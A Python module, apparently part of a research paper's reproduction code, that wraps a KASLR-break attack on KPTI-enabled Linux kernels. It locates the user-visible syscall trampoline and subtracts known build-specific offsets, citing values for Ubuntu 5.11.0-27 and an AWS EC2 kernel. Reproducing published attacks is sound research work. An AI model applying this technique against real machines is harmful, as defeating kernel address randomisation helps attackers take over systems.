"""KASLR break on a KPTI-enabled kernel (paper Section IV-D).

With KPTI the kernel is unmapped from the user page table, so probing the
512 slots finds nothing -- *except* the KPTI trampoline (the entry stub,
e.g. ``entry_SYSCALL_64``), which must stay user-visible.  Because KASLR
shifts the whole image, the trampoline sits at a constant, build-specific
offset from the base: finding the trampoline finds the base.

The paper confirmed the offset 0xc00000 on Ubuntu's 5.11.0-27 kernel and
0xe00000 on the EC2 AWS kernel; this attack takes the offset as input, the
same way the paper's threat model grants knowledge of constant offsets.
"""

from repro.attacks.kaslr_break import break_slots
from repro.os.linux import layout


def trampoline_offset_of(kernel):
    """The known trampoline offset of the victim's kernel build."""
    return layout.KPTI_TRAMPOLINE_OFFSETS.get(
        kernel.version, layout.DEFAULT_TRAMPOLINE_OFFSET
    )


def break_kaslr_kpti(machine, trampoline_offset=None, rounds=None,
                     calibration=None):
    """Locate the trampoline in the user table and subtract its offset."""
    if trampoline_offset is None:
        trampoline_offset = trampoline_offset_of(machine.kernel)
    return break_slots(machine, rounds, calibration, trampoline_offset,
                       method="kpti-trampoline")
